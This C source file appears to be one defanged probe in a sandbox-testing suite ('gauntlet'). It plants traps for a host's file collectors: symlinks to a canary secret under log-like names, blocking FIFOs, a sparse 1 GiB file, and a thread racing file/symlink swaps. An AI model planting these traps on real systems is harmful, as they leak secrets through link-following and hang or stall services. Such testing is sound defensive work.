/* host_collect_race: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F06: traps for the host's collectors. The harness reads scratch after the run (the canary oracle
 * scans every file for the token) and removes it. This leaves, in scratch, symlinks to the canary named
 * like the files a collector reads (and a directory symlink into the canary dir), a file named like the
 * canary, FIFOs that block a naive reader, a sparse 1 GiB file, and a tree with a symlinked middle
 * component. A collector that follows links reads the canary itself (host inotify, or the token shows
 * up as "found in scratch"); a collector that opens FIFOs hangs (health, TIME). During the run a thread
 * also swaps a regular file and a symlink under one name (bounded, until exit), to race any live scan. */
#include <pthread.h>
#include <signal.h>
static const char *scratch, *canary, *canary_dir;
static volatile int stop;
static void *swapper(void *a)
{
    (void)a;
    char f[600], l[600], n[600];
    snprintf(f, sizeof f, "%s/race.reg", scratch); snprintf(l, sizeof l, "%s/race.lnk", scratch); snprintf(n, sizeof n, "%s/race", scratch);
    int fd = open(f, O_CREAT | O_WRONLY, 0644); if (fd >= 0) { dprintf(fd, "gauntlet-%s\n", NONCE); close(fd); }
    symlink(canary, l); rename(f, n);
    for (int i = 0; i < 3000 && !stop; i++) { renameat2(AT_FDCWD, n, AT_FDCWD, l, 2 /* RENAME_EXCHANGE */); usleep(500); }
    return 0;
}
int main(int argc, char **argv)
{
    scratch = argc > 1 ? argv[1] : "/tmp";
    canary = argc > 2 ? argv[2] : "/nonexistent";
    canary_dir = argc > 3 ? argv[3] : "/nonexistent";
    if (argc > 4) NONCE = argv[4];
    signal(SIGXFSZ, SIG_IGN);
    const char *base = strrchr(canary, '/'); base = base ? base + 1 : canary;
    char p[700];
    const char *names[] = {"stdout", "stderr", "output.txt", "result.json", "outcome.json", "log", "secret", "token", "canary",
                           "core", "plugin.log", ".gauntlet"};
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) { snprintf(p, sizeof p, "%s/%s", scratch, names[i]); printf("symlink %s -> canary: %s\n", names[i], symlink(canary, p) == 0 ? "ok" : strerror(errno)); }
    snprintf(p, sizeof p, "%s/%s", scratch, base); symlink(canary, p);
    snprintf(p, sizeof p, "%s/canary-dir", scratch); symlink(canary_dir, p);
    snprintf(p, sizeof p, "%s/proc-root-canary", scratch); { char t[700]; snprintf(t, sizeof t, "/proc/self/root%s", canary); symlink(t, p); }
    /* a file named like the canary, in a dir named like the canary dir, holding only the marker */
    const char *cdn = strrchr(canary_dir, '/'); cdn = cdn ? cdn + 1 : canary_dir;
    snprintf(p, sizeof p, "%s/%s", scratch, cdn); mkdir(p, 0755);
    snprintf(p, sizeof p, "%s/%s/%s", scratch, cdn, base);
    int fd = open(p, O_CREAT | O_WRONLY | O_TRUNC, 0644); if (fd >= 0) { dprintf(fd, "gauntlet-%s\n", NONCE); close(fd); }
    /* FIFOs named like logs */
    const char *fifos[] = {"stdout.fifo", "run.log", "metrics.json"};
    for (int i = 0; i < 3; i++) { snprintf(p, sizeof p, "%s/%s", scratch, fifos[i]); mkfifo(p, 0666); }
    /* a sparse 1 GiB file: a collector that reads whole files spends its time here */
    snprintf(p, sizeof p, "%s/sparse.bin", scratch);
    fd = open(p, O_CREAT | O_WRONLY, 0644); if (fd >= 0) { printf("sparse 1GiB: %s\n", ftruncate(fd, 1L << 30) == 0 ? "ok" : strerror(errno)); close(fd); }
    /* a directory whose middle component is a symlink to the canary dir */
    snprintf(p, sizeof p, "%s/nest", scratch); mkdir(p, 0755);
    snprintf(p, sizeof p, "%s/nest/mid", scratch); symlink(canary_dir, p);
    /* race any live scan for ~1.5 s */
    pthread_t t; pthread_create(&t, 0, swapper, 0);
    usleep(1500000); stop = 1; pthread_join(t, 0);
    DIR *d = opendir(scratch);
    if (d) { struct dirent *e; printf("LIST scratch:"); int n = 0; while ((e = readdir(d)) && n++ < 60) printf(" %s", e->d_name); printf("\n"); closedir(d); }
    return 0;
}
